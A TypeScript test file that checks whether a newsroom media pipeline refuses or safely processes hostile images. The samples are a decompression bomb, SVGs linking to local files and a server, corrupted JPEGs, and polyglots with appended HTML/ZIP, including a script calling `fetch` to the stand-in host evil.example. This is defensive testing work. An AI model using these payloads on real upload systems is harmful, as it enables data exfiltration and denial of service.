import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { StatusReport } from '@slugline/story';
import { type Canary, canary } from '@slugline/testing/files/canary';
import { startTestServer, type TestServer } from '@slugline/testing/newsroom/server';
import { descendantsOf, hasProc } from '@slugline/testing/processes/running';
import { pngHeader } from '@slugline/testing/samples/images';
import { asFile, grainyPhotograph, photograph } from '@slugline/testing/samples/media';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fileOf, isAbsent } from '../corpus/corpus.ts';

/** A secret that is appended to some pictures. No public file may have it. */
const secret = `canary-${randomBytes(8).toString('hex')}`;
const html = Buffer.from(`<html><script>fetch("//evil.example/${secret}")</script></html>`);
const zip = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), html]);

const plain = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#336699' } });
const jpeg = async (name: string): Promise<Buffer> =>
  Buffer.from(await (await photograph(name)).arrayBuffer());

/** A drawing of 256 megapixels that links to files beside it and elsewhere on the disk, and to a server. */
const drawing = (note: string, ...links: string[]) =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="16000" height="16000">` +
  `<!-- ${note} -->${links.map((link) => `<image xlink:href="${link}" width="9" height="9"/>`).join('')}</svg>`;

/** What is expected of a picture: the code and words of its refusal, or the widths of its renditions. */
type Expected = { code: string; words: RegExp } | { widths: number[] };

const expected: Record<string, Expected> = {
  'good.jpg': { widths: [320, 480] },
  'also good.png': { widths: [320, 400] },
  'bomb.png': { code: 'picture_too_large', words: /65536 × 65536 pixels/ },
  'drawing.svg': { code: 'file_unsupported', words: /SVG drawing/ },
  'drawing.jpg': { code: 'file_unsupported', words: /SVG drawing/ },
  'cut.jpg': { code: 'picture_broken', words: /damaged or incomplete/ },
  'beheaded.jpg': { code: 'file_unsupported', words: /of no known kind/ },
  'false head.png': { code: 'picture_broken', words: /damaged or incomplete/ },
  'nothing.jpg': { code: 'file_empty', words: /no bytes/ },
  'endless.jpg': { code: 'media_deadline', words: /longer than its limit of 5 s/ },
  'page.jpg': { widths: [320, 480] },
  'archive.jpg': { widths: [320, 480] },
  'trailing.png': { widths: [320, 400] },
  'column.png': { widths: [1] },
  'line.png': { widths: [320, 640, 960, 1280, 1920, 2560] },
  'dot.png': { widths: [1] },
};

const fromCorpus: Record<string, Expected> = isAbsent
  ? {}
  : {
      '25000x25000.png': { code: 'picture_too_large', words: /25000 × 25000 pixels/ },
      'truncated.jpg': { code: 'picture_broken', words: /damaged or incomplete/ },
      'corrupt-header.jpg': { code: 'picture_broken', words: /damaged or incomplete/ },
      'struct-image-04-t.svg': { code: 'file_unsupported', words: /SVG drawing/ },
    };
const all = { ...expected, ...fromCorpus };

describe('hostile pictures beside good ones in one story', () => {
  let asked = 0;
  const webServer = createServer((_request, response) => {
    asked += 1;
    response.end(secret);
  });
  let folder: string;
  let bird: Canary;
  let server: TestServer;
  let report: StatusReport;
  let peaks: Map<number, number>;

  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'slugline-hostile-'));
    bird = await canary(join(folder, 'secret.png'));
    await once(webServer.listen(0, '127.0.0.1'), 'listening');
    const links = [
      'original',
      'secret.png',
      join(folder, 'secret.png'),
      `file://${join(folder, 'secret.png')}`,
    ];
    links.push(`http://127.0.0.1:${(webServer.address() as AddressInfo).port}/secret.png`);

    const png = (width: number, height: number) => plain(width, height).png().toBuffer();
    const cut = await jpeg('cut');
    const media = await Promise.all([
      photograph('good.jpg'),
      asFile('also good.png', png(400, 300)),
      asFile('bomb.png', pngHeader(65_536, 65_536)),
      asFile('drawing.svg', drawing('one', ...links)),
      asFile('drawing.jpg', drawing('two', ...links)),
      asFile('cut.jpg', cut.subarray(0, cut.length - 400)),
      asFile('beheaded.jpg', Buffer.concat([Buffer.alloc(8), cut.subarray(8)])),
      asFile('false head.png', Buffer.concat([pngHeader(480, 320).subarray(0, 41), cut.subarray(41)])),
      asFile('nothing.jpg', ''),
      // Grain: about 20 megapixels of AVIF over all sizes.
      grainyPhotograph('endless.jpg', { width: 2560, height: 4000 }),
      asFile('page.jpg', Buffer.concat([await jpeg('page'), html])),
      asFile('archive.jpg', Buffer.concat([await jpeg('archive'), zip])),
      asFile('trailing.png', Buffer.concat([await png(400, 301), zip])),
      asFile('column.png', png(1, 20_000)),
      asFile('line.png', png(20_000, 1)),
      asFile('dot.png', png(1, 1)),
      ...Object.keys(fromCorpus).map((name) => fileOf(`hostile/${name}`)),
    ]);
    server = await startTestServer({ settings: () => ({ workers: { pictureDeadlineMs: 5_000 } }) });
    const watch = watchMemory();
    const response = await server.submit({ draft: 'Bad weather\n\nIt came in pictures.\n', media });
    report = await server.settled(((await response.json()) as StatusReport).storyId);
    peaks = watch.stop();
  }, 180_000);
  afterAll(async () => {
    await server?.stop();
    await bird[Symbol.asyncDispose]();
    webServer.close();
    await rm(folder, { recursive: true, force: true });
  });

  it('leave the story complete', () => {
    expect(report).toMatchObject({ state: 'complete', headline: 'Bad weather' });
    const told = [...report.media.map(({ file }) => file), ...report.refused.map(({ file }) => file)];
    expect([...new Set(told)].sort()).toEqual(Object.keys(all).sort());
  });

  it.each(Object.entries(all))('%s is refused by name, or published', (name, wanted) => {
    const refusal = report.refused.find(({ file }) => file === name);
    if ('code' in wanted) {
      expect(refusal).toMatchObject({ code: wanted.code, message: expect.stringMatching(wanted.words) });
      expect(refusal?.message).toContain(name);
      return;
    }
    expect(refusal).toBeUndefined();
    const made = report.media.find(({ file }) => file === name);
    expect(made?.state).toBe('ready');
    const jpegs = made?.renditions.filter(({ name: rendition }) => /^w\d+\.jpg$/.test(rendition)) ?? [];
    expect(jpegs.map(({ width }) => width)).toEqual(wanted.widths);
  });

  it('reach no other file and no server', async () => {
    expect(asked).toBe(0);
    expect(await bird.sung()).toBe(false);
  });

  it('leave nothing in public of what is appended to them', async () => {
    const entries = await readdir(server.destination, { recursive: true, withFileTypes: true });
    // Files that are being written are in `.tmp` folders and may be gone when they are read.
    const files = entries.filter((entry) => entry.isFile() && !entry.parentPath.endsWith('.tmp'));
    expect(files.length).toBeGreaterThan(50);
    for (const { parentPath, name } of files) {
      const bytes = await readFile(join(parentPath, name));
      expect(bytes.includes(secret), name).toBe(false);
      expect(bytes.includes('PK\x03\x04'), name).toBe(false);
    }
  });

  it.skipIf(!hasProc)('cost no process more memory than a good picture may', () => {
    const megabytes = [...peaks.values()];
    expect(megabytes.length).toBeGreaterThan(0);

    for (const peak of megabytes) expect(peak).toBeLessThan(900);
  });
});

/** Watches the processes that decode and encode. Returns the most memory that each has held, in megabytes. */
function watchMemory() {
  const peaks = new Map<number, number>();
  const look = async () => {
    const workers = descendantsOf(process.pid).filter(({ command }) =>
      command.includes('image/src/process/child-entry'),
    );
    for (const { pid } of workers) {
      // VmHWM is the peak so far: proc(5). A process may end meanwhile.
      const status = await readFile(`/proc/${pid}/status`, 'utf8').catch(() => '');
      const peak = Number(/VmHWM:\s+(\d+) kB/.exec(status)?.[1] ?? 0) / 1024;
      peaks.set(pid, Math.max(peak, peaks.get(pid) ?? 0));
    }
  };
  const timer = hasProc ? setInterval(() => void look(), 100) : undefined;
  return {
    stop: () => {
      clearInterval(timer);
      return peaks;
    },
  };
}
